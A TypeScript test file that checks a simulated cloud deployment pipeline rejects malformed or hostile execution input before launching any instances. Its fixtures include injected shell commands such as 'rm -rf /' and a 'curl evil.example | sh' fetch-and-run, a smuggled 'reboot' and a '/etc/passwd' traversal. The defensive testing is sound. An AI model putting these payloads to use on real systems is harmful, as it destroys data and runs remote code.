/** Hostile or malformed execution input never gets past the first state: nothing is launched. */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadPipelineConfig } from '../../lib/config/load';
import { buildReport } from '../../simulator/report';
import { runSimulation } from '../../simulator/run';
import { synthDeployment, type SimDeployment } from '../../simulator/synth';

let deployment: SimDeployment;
beforeAll(() => {
  deployment = synthDeployment(loadPipelineConfig());
});

describe('execution input, as a caller sends it', () => {
  it.each([
    [{ mode: 'full; rm -rf /' }, 'mode'],
    [{ mode: 'full', runDate: '2026-05-30\nreboot' }, 'runDate'],
    [{ mode: 'full', runDate: '../../etc/passwd' }, 'runDate'],
    [{ mode: 'full', runDate: '2026-02-30' }, 'runDate'],
    [{ mode: 'full', command: '$(curl evil.example | sh)' }, 'command'],
    [{ mode: 'full', runDate: 20260530 }, 'runDate'],
    [['full'], 'execution input'],
    [{ mode: 'full', runDate: '2026-05-30', pad: 'x'.repeat(9000) }, 'execution input'],
  ])('%j fails ValidateInput with InvalidExecutionInput naming %s, and launches nothing', async (input, field) => {
    // Prepare
    const scenario = { name: 'bad input', input };

    // Act
    const sim = await runSimulation(scenario, { deployment });
    const report = buildReport(sim);

    // Assess
    expect(report.status).toBe('FAILED');
    expect(report.error).toBe('InvalidExecutionInput');
    expect(report.cause).toContain(field);
    expect(report.instances.launched).toBe(0);
    expect(report.phases.every((p) => p.status === 'NOT_RUN')).toBe(true);
    expect(['EC2.RunInstances', 'EC2.CreateFleet'].filter((c) => sim.cloud.calls.has(c))).toEqual([]);
    expect([...sim.cloud.calls.keys()].filter((k) => k.startsWith('SSM.'))).toEqual([]);
  });
});
